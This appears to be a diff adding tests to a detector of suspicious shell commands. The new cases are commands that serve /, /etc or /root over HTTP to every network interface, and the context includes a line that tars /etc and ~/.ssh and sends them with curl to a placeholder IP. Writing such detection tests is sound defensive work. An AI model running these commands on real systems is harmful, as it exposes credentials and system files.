@@ -3,6 +3,15 @@ import { suspiciousConstructs } from '../../source/parsers/suspicious-constructs
 
 const kinds = (text: string) => suspiciousConstructs(text).filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ kind, severity }) => `${severity} ${kind}`);
 
+describe('folders shown to whoever asks', () => {
+	test.each(['cd / && nohup python3 -m http.server 8000 &', 'python3 -m http.server --directory=/etc 80', '/usr/bin/env python3 -m http.server -d /root/', 'cd /root; python -m SimpleHTTPServer', 'busybox httpd -f -p 8080 -h /', "sh -c 'cd /etc; exec php -S 0.0.0.0:81'", 'php -S 0.0.0.0:80 -t //'])('%s', text => {
+		expect(kinds(text)).toEqual(['high files-served']);
+	});
+	test.each(['python3 -m http.server 8000', 'cd /; cd /srv/www && python3 -m http.server', 'cd / && python3 -m http.server -d /srv/pub', 'cd "$DIR" && python3 -m http.server', 'python3 -m http.server -d / -b 127.0.0.1', 'cd /; php -S 0.0.0.0:80 /srv/app/router.php', 'php -S localhost:8000 -t /', 'cd /; php artisan serve', 'cd /root; httpd -k start', 'busybox httpd -p 127.0.0.1:80 -h /', 'echo python3 -m http.server -d /', 'cd /; python3 -m venv x'])('is nothing to tell in %s', text => {
+		expect(kinds(text)).toEqual([]);
+	});
+});
+
 describe('what leaves the host', () => {
 	test.each([
 		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
